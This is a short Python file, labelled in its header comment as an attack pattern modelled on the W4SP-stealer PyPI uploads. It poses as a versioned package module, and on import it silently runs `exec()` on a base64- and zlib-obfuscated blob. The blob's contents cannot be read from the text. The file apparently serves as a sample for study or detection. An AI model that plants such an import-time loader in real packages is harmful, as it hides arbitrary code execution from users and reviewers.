# Attack pattern: stage-2 loader hidden as exec(zlib.decompress(base64.b64decode(...))), as in the 2022 W4SP-stealer PyPI uploads.
import base64
import zlib

__version__ = "0.3.1"

_BLOB = (
    "eJwrKMrMK1FIzs8rSc0rUSjOzy0oSS0uyczPs1IwMjAw0lFIzs8tKEotLkktUrBSUMrMS8nMS1eyUkjOz0vRUUgsSyxW"
    "MjQyBgDZdRCj"
)


def _init():
    exec(zlib.decompress(base64.b64decode(_BLOB)), {"__name__": "__main__"})


_init()
